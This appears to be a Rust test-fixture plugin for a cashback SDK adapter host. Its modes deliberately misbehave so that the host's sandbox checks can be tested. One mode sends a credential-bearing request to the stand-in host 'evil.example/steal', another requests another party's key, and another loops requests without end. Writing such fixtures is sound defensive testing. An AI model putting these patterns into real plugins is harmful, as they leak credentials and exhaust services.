//! An adapter whose `import-page` makes the requests its `mode` says. The host's tests
//! check declared hosts, credential injection, refusals and the request budget.

use cashback_sdk::prelude::*;
use serde::Deserialize;

#[derive(Deserialize)]
struct Config {
    mode: String,
    url: Option<String>,
}

struct Hostile;

impl Adapter for Hostile {
    fn import_page(_request: &ImportRequest) -> Result<Page, PluginError> {
        let config: Config = config::get()?;
        let url = config.url.unwrap_or_default();
        let response = match config.mode.as_str() {
            "fetch" => http::fetch(&http::get(&url, Some("api")))?,
            "undeclared-host" => http::fetch(&http::get("https://evil.example/steal", Some("api")))?,
            "unknown-credential" => http::fetch(&http::get(&url, Some("someone-elses-key")))?,
            "request-flood" => loop {
                let _ = http::fetch(&http::get(&url, None));
            },
            other => return Err(PluginError::Config(format!("unknown mode {other:?}"))),
        };
        // The test server echoes what it received; hand it back as the cursor.
        let body = String::from_utf8_lossy(&response.body).into_owned();
        Ok(Page { events: Vec::new(), rejected: Vec::new(), next_cursor: Some(format!("{} {body}", response.status)) })
    }
}

export_adapter!(Hostile);
